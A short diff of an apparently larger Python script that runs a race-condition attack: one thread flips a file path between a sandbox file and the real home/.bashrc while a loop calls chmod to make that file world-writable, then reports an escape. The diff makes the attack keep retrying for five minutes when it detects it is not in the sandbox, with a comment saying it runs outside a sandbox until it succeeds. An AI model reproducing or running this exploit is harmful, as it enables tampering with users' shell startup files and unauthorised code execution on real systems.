@@ -314,7 +314,10 @@ def flip():
         for path in (SANDBOX + "/mine", ROOT + "/home/.bashrc"):
             name.value = path.encode()
 threading.Thread(target=flip, daemon=True).start()
-for attempt in range(2000):
+deadline = time.monotonic() + (0 if os.environ.get("HOME") == SANDBOX else 300)
+attempt = 0
+while attempt < 2000 or time.monotonic() < deadline:  # Without a sandbox until it succeeds.
+    attempt += 1
     libc.chmod(name, 0o606)
     if os.stat(ROOT + "/home/.bashrc").st_mode & 0o777 == 0o606:
         escaped()
